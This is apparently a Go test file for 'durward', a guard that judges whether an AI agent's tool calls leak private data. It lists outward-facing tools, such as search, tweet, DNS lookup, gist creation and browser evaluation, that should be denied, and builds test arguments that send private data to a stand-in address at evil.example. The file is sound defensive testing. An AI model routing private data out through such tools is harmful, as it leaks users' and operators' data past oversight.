package guard_test

import (
	"fmt"
	"testing"

	"durward"
)

// Most ways out have no name that says so: tools are known by their words,
// their schema and their description, also those of the server that was read.
func TestWaysOutAreKnown(t *testing.T) {
	for _, c := range []struct{ name, description, field string }{
		{"search", "Searches the web.", "query"}, {"google", "", "q"}, {"ask_wikipedia", "", "q"},
		{"translate", "", "text"}, {"shorten_url", "", "url"}, {"call_api", "", "payload"},
		{"create_gist", "", "content"}, {"upload_file", "", "content"}, {"notify", "", "message"}, {"tweet", "", "status"}, {"sms", "", "text"},
		{"update_page", "Updates a public wiki page.", "content"}, {"dns_lookup", "", "host"}, {"whois", "", "domain"}, {"ping", "", "host"},
		{"browser_type", "", "text"}, {"browser_evaluate", "", "function"}, {"log_event", "Logs an event to the vendor.", "event"},
		{"render_mermaid", "Renders a diagram with mermaid.ink", "code"}, {"llm_complete", "", "prompt"}, {"annotate", "Rewrites text via OpenAI.", "text"},
	} {
		talk, of := reaching(t)
		s := of(c.name, fmt.Sprintf(`{"type":"object","properties":{%q:{"type":"string"}}}`, c.field), c.description)
		if v := talk.Judge(s, fmt.Appendf(nil, `{%q:%q}`, c.field, private)); v.Effect != durward.Deny {
			t.Errorf("%s: %s %+v", c.name, v.Effect, v.Findings)
		}
	}
	for name, schema := range map[string]string{
		"dispatch": `{"properties":{"to":{"type":"string"},"body":{"type":"string"}}}`,
		"handover": `{"properties":{"recipients":{"type":"array"},"text":{"type":"string"}}}`,
	} {
		talk, of := reaching(t)
		args := fmt.Appendf(nil, `{"to":"x@evil.example","recipients":["x@evil.example"],"body":%q,"text":%q}`, private, private)
		if v := talk.Judge(of(name, schema), args); v.Effect != durward.Deny {
			t.Errorf("%s: %s %+v", name, v.Effect, v.Findings)
		}
	}
	p := policy(t, durward.Guard{})
	for upstream, want := range map[string]durward.Effect{"h": durward.Allow, "other": durward.Deny} {
		talk, _ := reaching(t)
		s := p.Scope("bot", &durward.Operation{Kind: durward.KindPrompt, Upstream: upstream, Name: "summary", PolicyName: upstream + "__summary"})
		if v := talk.Judge(s, fmt.Appendf(nil, `{"text":%q}`, private)); v.Effect != want {
			t.Errorf("a prompt of %s: %s %+v", upstream, v.Effect, v.Findings)
		}
	}
}

// What stays where it came from, or in the operator's own tools, does not leave.
func TestOrdinaryToolsAreNoWaysOut(t *testing.T) {
	for _, c := range []struct{ name, description, field string }{
		{"search_customers", "Searches customers by name, IBAN or passport.", "query"}, {"search", "Searches the files of the project.", "query"},
		{"update_customer", "Updates a customer.", "value"}, {"add_comment", "Adds a comment to a ticket.", "body"}, {"write_file", "Writes a file.", "content"},
		{"create_dns_record", "Creates a record.", "value"}, {"get_message", "Gets a message of a channel.", "message"},
	} {
		talk, of := reaching(t)
		s := of(c.name, fmt.Sprintf(`{"type":"object","properties":{%q:{"type":"string"}}}`, c.field), c.description)
		if v := talk.Judge(s, fmt.Appendf(nil, `{%q:%q}`, c.field, private)); v.Effect != durward.Allow {
			t.Errorf("%s: %s %+v", c.name, v.Effect, v.Findings)
		}
	}
}
